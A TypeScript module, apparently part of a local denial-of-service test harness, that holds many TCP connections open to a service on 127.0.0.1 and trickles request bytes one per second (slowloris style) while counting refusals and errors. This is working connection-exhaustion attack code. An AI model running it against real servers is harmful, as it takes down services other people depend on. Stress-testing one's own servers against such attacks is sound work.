import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attacking } from './attack.ts';

const BYTE_EVERY_MS = 1_000;
/** Before a connection that was closed is opened again. */
const PAUSE_MS = 1_000;

/**
 * Holds so many connections to a service. Each is handled by `use` and opened again when it ends.
 * @param use what to do with a connection; by default only to wait for its end
 */
export async function holdLines(
  { from, tally }: Attacking,
  url: string,
  count: number,
  use: (line: Socket) => void,
): Promise<unknown> {
  const { port } = new URL(url);
  const hold = async () => {
    for (;;) {
      tally.sent++;
      const line = connect({ port: Number(port), host: '127.0.0.1', localAddress: from });
      line.on('error', () => tally.errors++);
      line.on('connect', () => {
        use(line);
      });
      await new Promise((closed) => line.on('close', closed));
      tally.refused++;
      await delay(PAUSE_MS);
    }
  };
  return Promise.all(Array.from({ length: count }, hold));
}

/** Sends the text a byte a second, then zeros. */
export function sendSlowly(line: Socket, begin: string, slow: string): void {
  line.resume();
  line.write(begin);
  let at = 0;
  const timer = setInterval(() => {
    line.write(slow[at++] ?? '0');
  }, BYTE_EVERY_MS);
  line.on('close', () => {
    clearInterval(timer);
  });
}
